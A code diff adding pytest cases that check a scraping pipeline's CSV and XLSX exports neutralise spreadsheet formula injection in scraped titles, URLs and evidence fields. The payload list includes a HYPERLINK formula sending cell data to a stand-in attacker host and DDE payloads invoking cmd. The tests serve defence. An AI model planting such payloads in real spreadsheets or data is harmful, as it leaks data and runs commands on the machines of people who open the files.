@@ -417,3 +417,67 @@ def test_pathological_articles_finish_or_fail_within_budget(tmp_path: Path) -> N
     assert "zz-good" in article_ids(tmp_path / "o")
     for line in error_lines(done.stderr):
         assert "--article-timeout" in line or "extraction failed" in line, line
+
+
+# --------------------------------------------------------------------------------------------
+# Formula injection (issue 20 item 12): scraped titles and URLs are written by strangers
+
+INJECTIONS = [
+    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"Bấm")', id="equals-hyperlink"),
+    pytest.param("=cmd|' /C calc'!A0", id="equals-dde"),
+    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
+    pytest.param("-2+3", id="minus"),
+    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
+    pytest.param("\t=1+1", id="tab"),
+    pytest.param("\r=1+1", id="carriage-return"),
+]
+
+
+@pytest.fixture
+def injected_store(tmp_path: Path):
+    from decimal import Decimal
+
+    from pipeline.extract import ArticleResult
+    from pipeline.store import Store
+    from pipeline.tables import ArticleRow, FigureRow
+
+    def store_with(payload: str) -> Path:
+        path = tmp_path / "store.duckdb"
+        row = ArticleRow("x", "baomau.vn", payload, payload, "2021-01-02", 1, 1, 5, "sha")
+        figure = FigureRow("x", "-5%", "percent", Decimal("-5"), None, "%", None, payload)
+        with Store(path) as store:
+            store.stage([ArticleResult("x", {"articles": [row], "figures": [figure]})], "t")
+            store.publish(["x"])
+        return path
+
+    return store_with
+
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_formulas_are_neutralised_in_spreadsheet_exports_only(
+    injected_store, tmp_path: Path, payload: str
+) -> None:
+    import pandas as pd
+    from openpyxl import load_workbook
+
+    from pipeline.export import export
+
+    store = injected_store(payload)
+    csv_path = export("figures", store=store, out_dir=tmp_path / "e", fmt="csv").path
+    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
+        row = next(csv.DictReader(handle))
+    for column in ("article_title", "url", "evidence"):
+        assert row[column] == "'" + payload, column
+    assert row["value"] == "-5"  # numbers stay numbers
+
+    xlsx_path = export("figures", store=store, out_dir=tmp_path / "e", fmt="xlsx").path
+    sheet = load_workbook(xlsx_path).active
+    cells = {c.column_letter: c for c in sheet[2]}
+    header = [c.value for c in sheet[1]]
+    for column in ("article_title", "url", "evidence"):
+        cell = cells[chr(ord("A") + header.index(column))]
+        assert cell.data_type == "s" and cell.value == "'" + payload, column
+
+    parquet_path = export("figures", store=store, out_dir=tmp_path / "e", fmt="parquet").path
+    exact = pd.read_parquet(parquet_path).iloc[0]
+    assert (exact["article_title"], exact["url"], exact["evidence"]) == (payload,) * 3
